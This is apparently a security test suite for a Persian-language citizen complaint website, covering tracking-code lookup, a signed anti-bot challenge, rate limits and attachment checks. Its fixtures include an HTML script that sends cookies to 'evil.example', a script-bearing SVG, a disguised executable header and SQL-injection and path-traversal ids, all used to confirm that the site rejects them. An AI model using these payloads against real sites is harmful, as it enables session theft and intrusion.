/**
 * The public forms under abuse (docs/DESIGN.md §7): guessing tracking codes (check digit, no hint of existence, a failure
 * limit per address), bots on the submission form (signed single-use challenge, honeypot, a post limit per address),
 * and attachments (size, count, type by content, who may download them). Real loaders and actions, real SQLite, real
 * files under the test's DATA_DIR.
 */
import { CARERS_FIELDS } from '~/domain/carers';
import { eq, sql } from 'drizzle-orm';
import { randomInt } from 'node:crypto';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { attachments, centers, items, usedChallenges } from '../../db/schema';
import { getConfig } from '~/platform/config.server';
import { MAX_ATTACHMENT_BYTES, sniffAttachmentType } from '~/domain/attachments';
import { CHALLENGE_TTL_MS, createChallenge } from '~/domain/challenge';
import { ADDRESS_FAILURES_BEFORE_QUESTION, LOOKUP_WINDOW_MS } from '~/domain/lookup-guard';
import { generateTrackingCode } from '~/domain/tracking-code';
import * as feedbackNew from '~/routes/feedback.new';
import * as staffAttachment from '~/routes/staff.items.$id.attachments.$attachmentId';
import * as trackAttachment from '~/routes/track.$code.attachments.$id';
import * as trackCode from '~/routes/track.$code';
import * as trackIndex from '~/routes/track._index';
import { limits } from '~/services/rate-limit.server';
import fa from '../../locales/fa/common.json';
import { BASE, CookieJar, getRequest, postForm, routeArgs, run, solvedChallenge } from '../support/http';
import { signInAs } from '../support/staff';
import { useTestDatabase } from '../support/test-db';
import { codeOf } from '../support/tracking-page';

const { db } = useTestDatabase();

const PROVINCE = 'ir-09';
const OTHER_PROVINCE = 'ir-23';
const BODY = 'در مرکز مثبت زندگی محله ما، نوبت غربالگری بینایی کودکان دو بار بدون خبر لغو شد.';

// ---- helpers ---------------------------------------------------------------------------------------------------

const centerId = () => String(db().select({ id: centers.id }).from(centers).where(eq(centers.provinceId, PROVINCE)).get()!.id);

let serial = 0;
/** A valid submission with its own mobile number and a solved challenge. */
function validForm(): Record<string, string> {
  serial++;
  return {
    kind: 'complaint',
    centerId: centerId(),
    provinceId: '',
    serviceId: '',
    subject: 'لغو نوبت',
    body: BODY,
    name: 'زهرا احمدی',
    mobile: `0935${String(1000000 + serial)}`,
    email: '',
    nationalCode: '',
    consent: 'on',
    website: '',
    ...solvedChallenge(),
  };
}

/** What the citizen typed, as the refusal gives it back (everything but the anti-bot fields). */
const typed = (form: Record<string, string>) => ({
  anonymous: '', // an unticked box is given back as such
  area: '', // so is an area left unchosen
  priority: '', // and the urgent box, the communication needs and "on behalf of" left empty (issues 22, 23)
  ...Object.fromEntries(CARERS_FIELDS.map((field) => [field, ''])),
  ...Object.fromEntries(Object.entries(form).filter(([k]) => !['challenge', 'challengeAnswer', 'website'].includes(k))),
});

const args = (request: Request, params: Record<string, string> = {}, clientIp?: string) => ({ request, params, context: clientIp ? { clientIp } : {} });

async function submit(request: Request, jar = new CookieJar(), clientIp?: string) {
  return jar.take(await run(() => feedbackNew.action(args(request, {}, clientIp))));
}

const submitFields = (fields: Record<string, string>, jar = new CookieJar(), clientIp?: string) => submit(postForm('/feedback/new', fields, jar), jar, clientIp);

/** The submission form as a browser sends it with files: multipart/form-data. */
function multipart(fields: Record<string, string>, files: File[], jar?: CookieJar): Request {
  const form = new FormData();
  for (const [name, value] of Object.entries(fields)) form.append(name, value);
  for (const file of files) form.append('attachments', file);
  return new Request(`${BASE}/feedback/new`, { method: 'POST', headers: jar ? { Cookie: jar.header() } : {}, body: form });
}

interface Refusal {
  errors: Record<string, string>;
  values: Record<string, string>;
  hadFiles: boolean;
  challenge: { a: number; b: number; token: string };
  retryAfterMinutes: number;
}

async function refusal(response: Response, status = 400): Promise<Refusal> {
  expect(response.status).toBe(status);
  return (await response.json()) as Refusal;
}

const itemByCode = (code: string) => db().select().from(items).where(eq(items.trackingCode, code)).get()!;
const count = (table: typeof items | typeof attachments | typeof usedChallenges) => db().select({ n: sql<number>`count(*)` }).from(table).get()!.n;
const attachmentFolder = () => path.join(getConfig().dataDir, 'attachments');
const filesOnDisk = () => (existsSync(attachmentFolder()) ? readdirSync(attachmentFolder()).length : 0);

/** What must not grow when a submission is refused. */
const stored = () => ({ items: count(items), attachments: count(attachments), files: filesOnDisk(), usedChallenges: count(usedChallenges) });

async function lookUp(fields: Record<string, string>, clientIp?: string, jar = new CookieJar()) {
  return jar.take(await run(() => trackIndex.action(args(postForm('/track', fields, jar), {}, clientIp))));
}

const persian = (s: string) => s.replace(/\d/g, (d) => '۰۱۲۳۴۵۶۷۸۹'[Number(d)]!);
const arabicIndic = (s: string) => s.replace(/\d/g, (d) => '٠١٢٣٤٥٦٧٨٩'[Number(d)]!);

/** A valid code that belongs to no item. */
function unusedCode(): string {
  for (;;) {
    const code = generateTrackingCode(randomInt);
    if (!db().select().from(items).where(eq(items.trackingCode, code)).get()) return code;
  }
}


// Real file signatures: what the upload check looks at.
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64');
/** A real 2×2 JPEG: photos are decoded and re-encoded before they are stored (app/services/images.server.ts). */
const JPEG = Buffer.from(
  '/9j/2wBDABALDA4MChAODQ4SERATGCgaGBYWGDEjJR0oOjM9PDkzODdASFxOQERXRTc4UG1RV19iZ2hnPk1xeXBkeFxlZ2P/2wBDARESEhgVGC8aGi9jQjhCY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2P/wAARCAACAAIDASIAAhEBAxEB/8QAFQABAQAAAAAAAAAAAAAAAAAAAAP/xAAUEAEAAAAAAAAAAAAAAAAAAAAA/8QAFAEBAAAAAAAAAAAAAAAAAAAAAP/EABQRAQAAAAAAAAAAAAAAAAAAAAD/2gAMAwEAAhEDEQA/AJAA/9k=',
  'base64',
);
const PDF = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
const HTML = Buffer.from('<!doctype html><html><body><script>document.location="https://evil.example/?c="+document.cookie</script></body></html>');
const EXE = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(126), Buffer.from('PE\0\0'), Buffer.alloc(64)]);
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="1" height="1"/></svg>');

// ---- tracking look-up ------------------------------------------------------------------------------------------

describe('looking up an item', () => {
  let code = '';
  let mobile = '';
  beforeAll(async () => {
    const form = validForm();
    code = codeOf(await submitFields(form));
    mobile = form.mobile!;
  });
  beforeEach(() => {
    limits.trackingFailures.reset();
    limits.trackingCodeFailures.reset();
  });

  it('with a mistyped digit gets the check-digit message, never "not found", and it is not counted as a guess', async () => {
    const mistyped = code.slice(0, 5) + String((Number(code[5]) + 1) % 10) + code.slice(6);
    for (let i = 0; i < 15; i++) {
      const response = await lookUp({ code: persian(mistyped), mobile }, '203.0.113.50');
      expect(response.status).toBe(400);
      const data = await response.json();
      expect(data.errors).toEqual({ code: 'errors.code_check_digit' });
      expect(data.errors.form).toBeUndefined();
    }
    expect((await lookUp({ code, mobile }, '203.0.113.50')).status).toBe(302);
  });

  it('with the right code and a wrong mobile gets exactly what a code that does not exist gets', async () => {
    const wrongMobile = await lookUp({ code, mobile: '09350000000' });
    const noSuchItem = await lookUp({ code: unusedCode(), mobile: '09350000000' });
    expect(wrongMobile.status).toBe(404);
    expect(noSuchItem.status).toBe(404);
    const [a, b] = [await wrongMobile.json(), await noSuchItem.json()];
    expect(a.errors).toEqual({ form: 'track.notFound' });
    expect(b.errors).toEqual(a.errors);
    expect(Object.keys(a)).toEqual(Object.keys(b));
    expect(wrongMobile.headers.getSetCookie()).toEqual([]);
    expect(JSON.stringify(a)).not.toContain(BODY);
    // The message itself names both parts, not the one that was wrong.
    expect(fa.track.notFound).toContain('کد');
    expect(fa.track.notFound).toContain('شماره همراه');
  });

  for (const [name, form] of [
    ['Persian digits', (m: string) => persian(m)],
    ['Arabic-Indic digits', (m: string) => arabicIndic(m)],
    ['Persian digits with +98 and spaces', (m: string) => persian(`+98 ${m.slice(1, 4)} ${m.slice(4, 7)} ${m.slice(7)}`)],
    ['dashes', (m: string) => `${m.slice(0, 4)}-${m.slice(4, 7)}-${m.slice(7)}`],
  ] as const) {
    it(`finds the item with the mobile typed in ${name}`, async () => {
      const jar = new CookieJar();
      const response = await lookUp({ code: persian(code), mobile: form(mobile) }, undefined, jar);
      expect(response.status).toBe(302);
      expect(response.headers.get('Location')).toBe(`/track/${code}`);
      const page = await (await run(() => trackCode.loader(routeArgs(getRequest(`/track/${code}`, jar), { code })))).json();
      expect(page.item).toMatchObject({ trackingCode: code, state: 'routed' });
    });
  }

  it('from one address must answer the question after too many failures (tests/security/tracking-lookup.test.ts has the rest); another address need not', async () => {
    const IP = '203.0.113.7';
    for (let i = 0; i < ADDRESS_FAILURES_BEFORE_QUESTION; i++) {
      const response = await lookUp({ code: unusedCode(), mobile }, IP);
      expect(response.status, `failure ${i + 1}`).toBe(404);
    }
    const asked = await lookUp({ code: unusedCode(), mobile: '۰۹۱۲۱۲۳۴۵۶۷' }, IP);
    expect(asked.status).toBe(400);
    const data = await asked.json();
    expect(data.errors).toEqual({ challengeAnswer: 'errors.challenge_required' });
    expect(data.values.mobile).toBe('۰۹۱۲۱۲۳۴۵۶۷'); // what was typed stays in the form

    // The right code and mobile without an answer are not looked at either: the answer tells a guesser nothing.
    const right = await lookUp({ code, mobile }, IP);
    expect(right.status).toBe(400);
    expect(right.headers.getSetCookie()).toEqual([]);

    // Someone else, at another address, is not affected.
    expect((await lookUp({ code, mobile }, '198.51.100.23')).status).toBe(302);
    expect((await lookUp({ code: unusedCode(), mobile }, '198.51.100.23')).status).toBe(404);
  });

  it('is asked nothing again from that address once the window has passed', async () => {
    const IP = '203.0.113.8';
    vi.useFakeTimers({ toFake: ['Date'] });
    try {
      for (let i = 0; i < ADDRESS_FAILURES_BEFORE_QUESTION; i++) await lookUp({ code: unusedCode(), mobile }, IP);
      expect((await lookUp({ code, mobile }, IP)).status).toBe(400);
      vi.setSystemTime(Date.now() + LOOKUP_WINDOW_MS);
      expect((await lookUp({ code, mobile }, IP)).status).toBe(302);
    } finally {
      vi.useRealTimers();
    }
  });
});

// ---- the arithmetic challenge ----------------------------------------------------------------------------------

describe('a submission with a challenge that does not hold', () => {
  afterEach(() => vi.useRealTimers());

  async function expectChallengeRefused(form: Record<string, string>, key: string) {
    const before = stored();
    const data = await refusal(await submitFields(form));
    expect(data.errors).toEqual({ challengeAnswer: key });
    expect(data.values).toEqual(typed(form)); // nothing to type again
    expect(data.challenge.token).not.toBe(form.challenge); // a fresh question comes with the refusal
    expect(data.challenge.a).toBeGreaterThanOrEqual(1);
    expect(stored()).toEqual(before);
    return data;
  }

  it('a wrong answer → errors.challenge_wrong', async () => {
    const form = validForm();
    await expectChallengeRefused({ ...form, challengeAnswer: String(Number(form.challengeAnswer) + 1) }, 'errors.challenge_wrong');
    await expectChallengeRefused({ ...form, challengeAnswer: 'هفده' }, 'errors.challenge_wrong');
    await expectChallengeRefused({ ...form, challengeAnswer: `0x${Number(form.challengeAnswer).toString(16)}` }, 'errors.challenge_wrong');
  });

  it('no answer typed → errors.challenge_required ("write the answer"), not "wrong"', async () => {
    await expectChallengeRefused({ ...validForm(), challengeAnswer: '' }, 'errors.challenge_required');
    await expectChallengeRefused({ ...validForm(), challengeAnswer: '  ' }, 'errors.challenge_required');
  });

  it('no challenge at all (a form posted by a script) → errors.challenge_required', async () => {
    const form = validForm();
    await expectChallengeRefused({ ...form, challenge: '' }, 'errors.challenge_required');
  });

  it('a tampered or foreign token → refused, with the "answer the new question" message', async () => {
    const form = validForm();
    const [a, b, expires, nonce, signature] = form.challenge!.split('.');
    const easier = `1.1.${expires}.${nonce}.${signature}`; // a bot making the sum trivial
    await expectChallengeRefused({ ...form, challenge: easier, challengeAnswer: '2' }, 'errors.challenge_expired');
    const longer = `${a}.${b}.${Number(expires) + 86_400_000}.${nonce}.${signature}`; // a bot extending its life
    await expectChallengeRefused({ ...form, challenge: longer }, 'errors.challenge_expired');
    const foreign = createChallenge('another-secret');
    await expectChallengeRefused({ ...form, challenge: foreign.token, challengeAnswer: String(foreign.a + foreign.b) }, 'errors.challenge_expired');
    await expectChallengeRefused({ ...form, challenge: 'garbage' }, 'errors.challenge_expired');
  });

  it('an expired token (crafted an hour and more ago) → errors.challenge_expired', async () => {
    const old = createChallenge(getConfig().sessionSecret, new Date(Date.now() - CHALLENGE_TTL_MS - 1000));
    await expectChallengeRefused({ ...validForm(), challenge: old.token, challengeAnswer: String(old.a + old.b) }, 'errors.challenge_expired');
  });

  it('a form left open past the challenge lifetime → errors.challenge_expired; just before it, accepted', async () => {
    vi.useFakeTimers({ toFake: ['Date'] });
    const start = Date.now();
    const late = validForm();
    const inTime = validForm();
    vi.setSystemTime(start + CHALLENGE_TTL_MS + 1);
    await expectChallengeRefused(late, 'errors.challenge_expired');
    vi.setSystemTime(start + CHALLENGE_TTL_MS - 1000);
    codeOf(await submitFields(inTime));
  });

  it('a solved challenge used twice: the second post is refused with errors.challenge_used and stores nothing', async () => {
    const form = validForm();
    const first = codeOf(await submitFields(form));
    expect(itemByCode(first).body).toBe(BODY);
    const data = await expectChallengeRefused({ ...form, mobile: '09351119999' }, 'errors.challenge_used');
    // The fresh challenge of the refusal works.
    codeOf(await submitFields({ ...form, challenge: data.challenge.token, challengeAnswer: String(data.challenge.a + data.challenge.b) }));
  });

  it('a replayed question is refused before any photo is decoded (fourth outside review: replays paid for decoding)', async () => {
    const form = validForm();
    codeOf(await submitFields(form));
    // Bytes that only claim to be a PNG: decoding them would answer errors.attachment_type; the replay is seen first.
    const fake = new File([new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 1, 2, 3, 4])], 'photo.png', { type: 'image/png' });
    const data = await refusal(await submit(multipart({ ...form, mobile: '09351118888' }, [fake])));
    expect(data.errors).toEqual({ challengeAnswer: 'errors.challenge_used' });
  });

  it('a replay posted at the same moment as the original still gets only one item', async () => {
    const form = validForm();
    const before = count(items);
    const responses = await Promise.all([submitFields({ ...form }), submitFields({ ...form })]);
    expect(responses.map((r) => r.status).sort()).toEqual([302, 400]);
    expect(count(items)).toBe(before + 1);
  });

  it('the honeypot filled in by a bot that also attaches a file: refused, no item, no file kept, challenge not used up', async () => {
    const before = stored();
    const data = await refusal(await submit(multipart({ ...validForm(), website: 'https://spam.example' }, [new File([PNG], 'x.png', { type: 'image/png' })])));
    expect(data.errors).toEqual({ website: 'errors.bot_suspected' });
    expect(stored()).toEqual(before);
  });
});

// ---- the post limit --------------------------------------------------------------------------------------------

describe('many submissions from one address', () => {
  beforeEach(() => limits.feedbackPosts.reset());

  it('are refused with 429 and Retry-After after the limit, before the body is read; another address is not affected', async () => {
    const IP = '203.0.113.7';
    const limit = 20; // limits.feedbackPosts
    // Valid or not, every post counts: a flood of broken forms is a flood too.
    for (let i = 0; i < limit; i++) {
      const response = await submitFields(i % 2 === 0 ? validForm() : { ...validForm(), body: 'کوتاه' }, new CookieJar(), IP);
      expect(response.status, `post ${i + 1}`).toBe(i % 2 === 0 ? 302 : 400);
    }
    const before = stored();
    const form = validForm();
    const response = await submitFields(form, new CookieJar(), IP);
    const data = await refusal(response, 429);
    const retryAfter = Number(response.headers.get('Retry-After'));
    expect(retryAfter).toBeGreaterThan(0);
    expect(retryAfter).toBeLessThanOrEqual(10 * 60);
    expect(data.errors).toEqual({ form: 'errors.rate_limited' });
    expect(data.values).toEqual({}); // refused before the body is read; the browser keeps what was typed
    expect(data.retryAfterMinutes).toBe(Math.ceil(retryAfter / 60));
    expect(fa.errors.rate_limited).toMatch(/[\u0600-\u06FF]/);
    expect(stored()).toEqual(before);

    // The same form from another address goes through (its challenge was not used up by the refusal).
    codeOf(await submitFields(form, new CookieJar(), '198.51.100.23'));
  });
});

// ---- attachments -----------------------------------------------------------------------------------------------

describe('a submission with attachments', () => {
  let code = '';
  let citizen: CookieJar;
  let list: { id: number; originalName: string; mimeType: string; size: number }[] = [];
  const files = [
    { bytes: PNG, name: 'عکس‌های در بسته.png', type: 'image/png', storedAs: 'image/png', shownAs: 'عکس‌های در بسته.png' },
    { bytes: JPEG, name: 'C:\\Users\\me\\..\\photo.jpeg', type: 'image/jpeg', storedAs: 'image/jpeg', shownAs: 'photo.jpeg' },
    // A PDF the browser calls an image: the content decides, and the name follows it.
    { bytes: PDF, name: 'scan.png', type: 'image/png', storedAs: 'application/pdf', shownAs: 'scan.pdf' },
  ];

  beforeAll(async () => {
    citizen = new CookieJar();
    const form = validForm();
    const response = await submit(multipart(form, files.map((f) => new File([f.bytes], f.name, { type: f.type }))), citizen);
    code = codeOf(response);
    const page = await (await run(() => trackCode.loader(routeArgs(getRequest(`/track/${code}`, citizen), { code })))).json();
    list = page.item.attachments;
  });

  /** The bytes kept of the i-th file: the PDF as sent, photos re-encoded without metadata (tests/security/photo-metadata.test.ts). */
  const storedBytes = (i: number) => {
    const rows = db().select().from(attachments).where(eq(attachments.itemId, itemByCode(code).id)).orderBy(attachments.id).all();
    return readFileSync(path.join(attachmentFolder(), rows[i]!.storedName));
  };

  it('stores each file by its content, under a random name outside the web root, a PDF unchanged and photos re-encoded', () => {
    const rows = db().select().from(attachments).where(eq(attachments.itemId, itemByCode(code).id)).all();
    expect(rows.map((r) => [r.originalName, r.mimeType])).toEqual(files.map((f) => [f.shownAs, f.storedAs]));
    rows.forEach((row, i) => {
      expect(row.storedName).toMatch(/^[0-9a-f]{32}\.(png|jpg|pdf)$/);
      const kept = readFileSync(path.join(attachmentFolder(), row.storedName));
      expect(row.size).toBe(kept.length);
      if (row.mimeType === 'application/pdf') expect(kept.equals(files[i]!.bytes)).toBe(true);
      else expect(sniffAttachmentType(kept)).toBe(row.mimeType);
    });
  });

  it('lists them on the tracking page with name, type and size', () => {
    expect(list.map((a) => [a.originalName, a.mimeType, a.size])).toEqual(files.map((f, i) => [f.shownAs, f.storedAs, storedBytes(i).length]));
    expect(JSON.stringify(list)).not.toMatch(/[0-9a-f]{32}/); // the stored name is nobody's business
  });

  it('lets the submitting browser download each one, as a download with its checked type and safe headers', async () => {
    for (const [i, attachment] of list.entries()) {
      const response = await run(() => trackAttachment.loader(routeArgs(getRequest(`/track/${code}/attachments/${attachment.id}`, citizen), { code, id: String(attachment.id) })));
      expect(response.status).toBe(200);
      expect(response.headers.get('Content-Type')).toBe(files[i]!.storedAs);
      expect(Buffer.from(await response.arrayBuffer()).equals(storedBytes(i))).toBe(true);
      const disposition = response.headers.get('Content-Disposition')!;
      expect(disposition).toMatch(/^attachment;/);
      expect(disposition).toContain(`filename*=UTF-8''${encodeURIComponent(files[i]!.shownAs)}`);
      expect(response.headers.get('X-Content-Type-Options')).toBe('nosniff');
      expect(response.headers.get('Cache-Control')).toMatch(/no-store/);
      expect(response.headers.get('Content-Security-Policy')).toMatch(/sandbox/);
    }
  });

  it('gives 404 to another browser, to a browser that unlocked another item, and for ids that are not this item’s', async () => {
    const [first] = list;
    const download = (jar: CookieJar | undefined, c: string, id: string) =>
      run(() => trackAttachment.loader(routeArgs(getRequest(`/track/${c}/attachments/${id}`, jar), { code: c, id })));

    expect((await download(new CookieJar(), code, String(first!.id))).status).toBe(404);
    expect((await download(undefined, code, String(first!.id))).status).toBe(404);

    const other = new CookieJar();
    const otherCode = codeOf(await submitFields(validForm(), other));
    // Their own code, this item's attachment id: still not theirs.
    expect((await download(other, otherCode, String(first!.id))).status).toBe(404);
    expect((await download(other, code, String(first!.id))).status).toBe(404);
    for (const id of ['999999', 'abc', '1 OR 1=1', '../1', '']) expect((await download(citizen, code, id)).status, id).toBe(404);
  });

  it('lets the owning province’s officer and the national supervisor download, and nobody else on staff', async () => {
    const itemId = String(itemByCode(code).id);
    const attachmentId = String(list[0]!.id);
    const staffDownload = (jar: CookieJar | undefined) =>
      run(() => staffAttachment.loader(routeArgs(getRequest(`/staff/items/${itemId}/attachments/${attachmentId}`, jar), { id: itemId, attachmentId })));

    for (const username of [`officer.${PROVINCE}`, `manager.${PROVINCE}`, 'national']) {
      const response = await staffDownload(await signInAs(username));
      expect(response.status, username).toBe(200);
      expect(Buffer.from(await response.arrayBuffer()).equals(storedBytes(0))).toBe(true);
      expect(response.headers.get('X-Content-Type-Options')).toBe('nosniff');
    }
    for (const username of [`officer.${OTHER_PROVINCE}`, `manager.${OTHER_PROVINCE}`, 'agent', 'admin']) {
      const response = await staffDownload(await signInAs(username));
      expect(response.status, username).toBe(404);
    }
    const anonymous = await staffDownload(undefined);
    expect(anonymous.status).toBe(302);
    expect(anonymous.headers.get('Location')).toMatch(/^\/staff\/login\?redirectTo=/);
  });
});

describe('a submission with attachments that break the rules', () => {
  async function expectRefused(files: File[], key: string) {
    const form = validForm();
    const before = stored();
    const data = await refusal(await submit(multipart(form, files)));
    expect(data.errors).toEqual({ attachments: key });
    expect(data.values).toEqual(typed(form)); // the text stays; the files must be chosen again
    expect(data.hadFiles).toBe(true);
    expect(stored()).toEqual(before); // no item, no rows, no file left on disk, the challenge still unused
  }

  it('a file over 5 MB → errors.attachment_too_large', async () => {
    const big = Buffer.concat([PNG, Buffer.alloc(MAX_ATTACHMENT_BYTES + 1 - PNG.length)]);
    await expectRefused([new File([big], 'big.png', { type: 'image/png' })], 'errors.attachment_too_large');
    await expectRefused([new File([PNG], 'ok.png', { type: 'image/png' }), new File([big], 'big.png', { type: 'image/png' })], 'errors.attachment_too_large');
  });

  it('a file of exactly 5 MB is accepted', async () => {
    const exact = Buffer.concat([PDF, Buffer.alloc(MAX_ATTACHMENT_BYTES - PDF.length, 0x20)]);
    const code = codeOf(await submit(multipart(validForm(), [new File([exact], 'report.pdf', { type: 'application/pdf' })])));
    expect(db().select().from(attachments).where(eq(attachments.itemId, itemByCode(code).id)).get()).toMatchObject({ size: MAX_ATTACHMENT_BYTES, mimeType: 'application/pdf' });
  });

  it('a fourth file → errors.attachments_too_many', async () => {
    await expectRefused(
      [1, 2, 3, 4].map((n) => new File([PNG], `${n}.png`, { type: 'image/png' })),
      'errors.attachments_too_many',
    );
  });

  it('an empty file input next to three files is not counted as a fourth', async () => {
    const code = codeOf(
      await submit(multipart(validForm(), [...[1, 2, 3].map((n) => new File([PNG], `${n}.png`, { type: 'image/png' })), new File([], '', { type: 'application/octet-stream' })])),
    );
    expect(db().select().from(attachments).where(eq(attachments.itemId, itemByCode(code).id)).all()).toHaveLength(3);
  });

  for (const [name, bytes, fileName, type] of [
    ['an HTML page renamed .png', HTML, 'photo.png', 'image/png'],
    ['a Windows program renamed .jpg', EXE, 'photo.jpg', 'image/jpeg'],
    ['an SVG with a script', SVG, 'drawing.svg', 'image/svg+xml'],
    ['an SVG claiming to be a PNG', SVG, 'drawing.png', 'image/png'],
    ['an HTML page claiming to be a PDF', HTML, 'letter.pdf', 'application/pdf'],
    ['plain text', Buffer.from('just some text that is long enough'), 'note.txt', 'text/plain'],
  ] as const) {
    it(`${name} → errors.attachment_type`, async () => {
      await expectRefused([new File([bytes], fileName, { type })], 'errors.attachment_type');
    });
  }

  it('one disguised file among good ones refuses the whole submission, keeping none of the good files', async () => {
    await expectRefused(
      [new File([PNG], 'a.png', { type: 'image/png' }), new File([HTML], 'b.png', { type: 'image/png' }), new File([PDF], 'c.pdf', { type: 'application/pdf' })],
      'errors.attachment_type',
    );
  });

  it('a file sent under another field name is ignored, not stored', async () => {
    const form = new FormData();
    for (const [name, value] of Object.entries(validForm())) form.append(name, value);
    form.append('body-file', new File([PNG], 'x.png', { type: 'image/png' }));
    const before = stored();
    const code = codeOf(await submit(new Request(`${BASE}/feedback/new`, { method: 'POST', body: form })));
    expect(db().select().from(attachments).where(eq(attachments.itemId, itemByCode(code).id)).all()).toEqual([]);
    expect(stored().files).toBe(before.files);
  });
});
